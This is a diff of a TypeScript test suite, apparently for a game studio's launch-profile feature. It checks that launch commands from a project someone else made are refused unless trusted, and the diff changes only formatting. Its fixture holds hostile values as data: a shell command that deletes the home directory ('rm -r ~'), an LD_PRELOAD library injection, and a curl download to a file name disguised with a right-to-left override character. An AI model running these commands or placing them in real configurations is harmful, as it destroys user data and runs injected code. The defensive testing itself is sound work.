@@ -5,7 +5,13 @@ import { openBench } from '../studio.fixture'
 
 const STRANGER = '/projects/of-a-stranger'
 const EVIL: LaunchProfile = {
-  executable: '/bin/sh', arguments: ['-c', 'rm -r ~'], folder: '', environment: { LD_PRELOAD: './evil.so' }, wrapper: [], before: [['curl', 'http://x', '-o', 'a b\u202e']], after: [['bye']],
+  executable: '/bin/sh',
+  arguments: ['-c', 'rm -r ~'],
+  folder: '',
+  environment: { LD_PRELOAD: './evil.so' },
+  wrapper: [],
+  before: [['curl', 'http://x', '-o', 'a b\u202e']],
+  after: [['bye']],
 }
 const LINES = 'LD_PRELOAD=./evil.so\ncurl http://x -o "a b\\u{202e}"\n/bin/sh -c "rm -r ~"\nbye'
 
@@ -13,7 +19,13 @@ const LINES = 'LD_PRELOAD=./evil.so\ncurl http://x -o "a b\\u{202e}"\n/bin/sh -c
 async function received(profile: LaunchProfile = EVIL) {
   const ran: string[] = []
   const folders = new Map<string, MemoryFiles>()
-  const bench = await openBench({ folders, run: ({ command }) => { ran.push(command); return 0 } })
+  const bench = await openBench({
+    folders,
+    run: ({ command }) => {
+      ran.push(command)
+      return 0
+    },
+  })
   const { api } = bench.studio
   await api.open('/game', { workspace: STRANGER })
   const files = folders.get(STRANGER) ?? expect.unreachable()
@@ -22,11 +34,21 @@ async function received(profile: LaunchProfile = EVIL) {
   const project = Object.keys(files.snapshot()).find(name => name.endsWith('.areal'))
   await api.open(`${STRANGER}/${project}`)
   expect((await api.info())?.workspace).toBe(STRANGER)
-  return { ...bench, api, ran, files, rewrite: async (next: LaunchProfile) => files.write('workspace.json', new TextEncoder().encode(JSON.stringify({ ...about, profile: next }))) }
+  return {
+    ...bench,
+    api,
+    ran,
+    files,
+    rewrite: async (next: LaunchProfile) =>
+      files.write('workspace.json', new TextEncoder().encode(JSON.stringify({ ...about, profile: next }))),
+  }
 }
 
 const refusalOf = async (promise: Promise<unknown>): Promise<StudioError> => {
-  const error: unknown = await promise.then(() => undefined, (reason: unknown) => reason)
+  const error: unknown = await promise.then(
+    () => undefined,
+    (reason: unknown) => reason,
+  )
   if (!(error instanceof StudioError)) throw new Error('it was not refused')
   return error
 }
@@ -50,7 +72,12 @@ describe('launch commands of a project file that somebody else made', () => {
     expect(Object.keys(files.snapshot())).not.toContain('trusted-launch.json')
     expect(Object.keys(folders.get('/user')?.snapshot() ?? {})).toContain('trusted-launch.json')
 
-    for (const next of [{ ...EVIL, after: [['other']] }, { ...EVIL, environment: {} }, { ...EVIL, folder: '/tmp' }, { ...EVIL, wrapper: ['x'] }]) {
+    for (const next of [
+      { ...EVIL, after: [['other']] },
+      { ...EVIL, environment: {} },
+      { ...EVIL, folder: '/tmp' },
+      { ...EVIL, wrapper: ['x'] },
+    ]) {
       await rewrite(next)
       expect((await refusalOf(api.launch())).code).toBe('launch.untrusted')
       expect((await refusalOf(api.launch({ trust }))).code, 'what was shown is what runs').toBe('launch.untrusted')
@@ -60,16 +87,23 @@ describe('launch commands of a project file that somebody else made', () => {
 
   it('are not allowed by being changed here', async () => {
     const { api, ran } = await received()
-    await api.setProfile({ ...await api.profile(), arguments: [] })
+    await api.setProfile({ ...(await api.profile()), arguments: [] })
     expect((await refusalOf(api.launch())).code).toBe('launch.untrusted')
     expect(ran).toEqual([])
   })
 })
 
-it('the user\'s own profile is never asked for, in a workspace of the user\'s data and in one elsewhere', async () => {
+it("the user's own profile is never asked for, in a workspace of the user's data and in one elsewhere", async () => {
   for (const workspace of [undefined, '/projects/mine']) {
     const ran: string[] = []
-    const { studio: { api } } = await openBench({ run: ({ command }) => { ran.push(command); return 0 } })
+    const {
+      studio: { api },
+    } = await openBench({
+      run: ({ command }) => {
+        ran.push(command)
+        return 0
+      },
+    })
     await api.open('/game', workspace === undefined ? {} : { workspace })
     await api.launch()
     await api.setProfile(EVIL)
